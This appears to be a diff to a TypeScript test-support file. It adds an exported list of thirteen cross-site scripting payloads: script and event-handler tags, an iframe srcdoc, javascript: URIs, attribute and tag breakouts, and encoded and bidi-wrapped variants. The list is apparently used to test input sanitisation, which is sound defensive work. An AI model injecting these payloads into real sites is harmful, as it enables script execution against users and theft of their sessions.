@@ -163,3 +163,20 @@ const addresses = [
 ];
 
 export const xssPayloads: string[] = [...elements, ...breakouts, ...scripts, ...encodings, ...addresses];
+
+/** One of each kind: elements, ways out of where text stands, script, encodings, addresses. */
+export const someXssPayloads: string[] = [
+  `<script>${run}</script>`,
+  `<img src=x onerror=${run}>`,
+  `<svg/onload=${run}>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<a href="javascript:${run}">x</a>`,
+  `"><img src=x onerror=${run}>`,
+  `" autofocus onfocus="${run}`,
+  `</textarea><script>${run}</script>`,
+  `</script><script>${run}</script>`,
+  `";${run};//`,
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+  `\u202e<script>${run}</script>\u202c`,
+  `javascript:${run}`,
+];
